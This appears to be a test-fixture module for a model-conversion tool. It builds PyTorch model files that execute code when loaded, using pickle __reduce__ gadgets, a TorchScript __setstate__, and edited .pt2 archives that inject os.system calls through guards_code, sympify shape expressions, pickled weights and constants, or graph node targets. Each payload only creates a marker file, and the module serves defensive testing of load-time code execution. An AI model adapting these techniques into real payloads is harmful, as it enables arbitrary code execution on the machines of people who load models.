"""Model files that run code when torch loads them, each writing a marker file: what
`trainer convert` must refuse by default. Every maker returns the model's path and a function
that loads it the way plain torch would (the control: the marker appears, so the attack is real).
"""
from __future__ import annotations

import builtins
import io
import json
import zipfile
from pathlib import Path
from typing import Tuple

import torch
from _torch_models import save_exported


class WritesOnUnpickle:
    """Unpickling it opens (creates) the marker file: any Python a pickle names runs."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (builtins.open, (self.marker, "w"))


class WritesOnJitLoad(torch.nn.Module):
    """TorchScript: `torch.jit.load` runs `__setstate__`, which saves a file where it likes."""

    def __init__(self, marker: Path):
        super().__init__()
        self.marker = str(marker)

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self) -> Tuple[bool, str]:
        return (self.training, self.marker)

    @torch.jit.export
    def __setstate__(self, state: Tuple[bool, str]) -> None:
        torch.save([torch.zeros(1)], state[1])
        self.training = state[0]
        self.marker = state[1]


def base_pt2(folder: Path) -> Path:
    """A genuine ExportedProgram (dynamic batch) the crafted ones start from."""
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 3))
    return save_exported(model, folder / "base.pt2", torch.zeros(4, 4))


def rewrite_pt2(src: Path, dst: Path, program=None, records: dict | None = None) -> Path:
    """Copy a .pt2, editing its program JSON with `program(doc)` and replacing records by name
    (name relative to the archive folder -> bytes)."""
    records = dict(records or {})
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        prefix = zin.namelist()[0].split("/", 1)[0]
        for info in zin.infolist():
            inner = info.filename.split("/", 1)[1]
            data = records.pop(inner, None) or zin.read(info)
            if program is not None and inner.startswith("models/") and inner.endswith(".json"):
                doc = json.loads(data)
                program(doc)
                data = json.dumps(doc).encode()
            zout.writestr(info, data)
        for inner, data in records.items():   # new records
            zout.writestr(f"{prefix}/{inner}", data)
    return dst


def _walk(doc, key):
    stack = [doc]
    while stack:
        node = stack.pop()
        if isinstance(node, dict):
            if key in node:
                yield node
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)


def _touch(marker: Path) -> str:
    return f"__import__('os').system('touch {marker}')"


def _run_exported(path: Path):
    torch.export.load(str(path)).module()(torch.zeros(2, 4))


def pickled_module(folder: Path, marker: Path):
    path = folder / "evil.pt"
    torch.save(WritesOnUnpickle(marker), path)
    return path, lambda: torch.load(path, weights_only=False)


def torchscript_archive(folder: Path, marker: Path):
    path = folder / "scripted.pt"
    torch.jit.script(WritesOnJitLoad(marker)).save(str(path))
    marker.unlink(missing_ok=True)  # scripting runs __setstate__ too: only loading counts here
    return path, lambda: torch.jit.load(str(path))


def pt2_guard(folder: Path, marker: Path):
    """`ExportedProgram.module()` exec's guards_code."""
    def edit(doc):
        doc["guards_code"] = [f"{_touch(marker)} == 0"]
    path = rewrite_pt2(base_pt2(folder), folder / "guard.pt2", edit)
    return path, lambda: _run_exported(path)


def pt2_shape_expression(folder: Path, marker: Path):
    """torch.export.load sympify()s (evals) every symbolic shape expression."""
    def edit(doc):
        node = next(_walk(doc, "expr_str"))
        node["expr_str"] = (f"sympify.__globals__['__builtins__']['__import__']('os').system('touch {marker}')"
                            f" or {node['expr_str']}")
    path = rewrite_pt2(base_pt2(folder), folder / "shape.pt2", edit)
    return path, lambda: _run_exported(path)


def pt2_pickled_weight(folder: Path, marker: Path):
    """A weight stored with use_pickle is torch.load()ed with weights_only=False."""
    base = base_pt2(folder)
    with zipfile.ZipFile(base) as z:
        name = next(n for n in z.namelist() if n.endswith("model_weights_config.json"))
        config = json.loads(z.read(name))
    fqn, entry = next(iter(config["config"].items()))
    entry["use_pickle"] = True
    buf = io.BytesIO()
    torch.save(WritesOnUnpickle(marker), buf)
    records = {name.split("/", 1)[1]: json.dumps(config).encode(), f"data/weights/{entry['path_name']}": buf.getvalue()}
    path = rewrite_pt2(base, folder / "weight.pt2", records=records)
    return path, lambda: _run_exported(path)


def pt2_os_system_target(folder: Path, marker: Path):
    """A node may name any attribute path under torch: torch.serialization.os.system."""
    def edit(doc):
        node = next(n for n in _walk(doc, "target") if "relu" in str(n["target"]))
        node["target"] = "torch.serialization.os.system"
    return rewrite_pt2(base_pt2(folder), folder / "target.pt2", edit), None   # torch's verifier stops this one


def pt2_file_writing_operator(folder: Path, marker: Path):
    """aten::save is a registered operator: a graph may write files with it."""
    def edit(doc):
        node = next(n for n in _walk(doc, "target") if "relu" in str(n["target"]))
        node["target"] = "torch.ops.aten.save.default"
    return rewrite_pt2(base_pt2(folder), folder / "save.pt2", edit), None


def pt2_custom_object(folder: Path, marker: Path):
    """Custom-object constants are unpickled (torch._C._pickle_load_obj / pickle.loads)."""
    base = base_pt2(folder)
    with zipfile.ZipFile(base) as z:
        name = next(n for n in z.namelist() if n.endswith("model_constants_config.json"))
        config = json.loads(z.read(name))
    config.setdefault("config", {})["obj"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                              "tensor_meta": None}
    import pickle

    records = {name.split("/", 1)[1]: json.dumps(config).encode(),
               "data/constants/opaque_obj_0": pickle.dumps(WritesOnUnpickle(marker))}
    return rewrite_pt2(base, folder / "object.pt2", records=records), None


ATTACKS = {
    "pickled-module": pickled_module,
    "torchscript-setstate": torchscript_archive,
    "pt2-guards-code": pt2_guard,
    "pt2-shape-expression": pt2_shape_expression,
    "pt2-pickled-weight": pt2_pickled_weight,
    "pt2-os-system-target": pt2_os_system_target,
    "pt2-aten-save": pt2_file_writing_operator,
    "pt2-custom-object": pt2_custom_object,
}
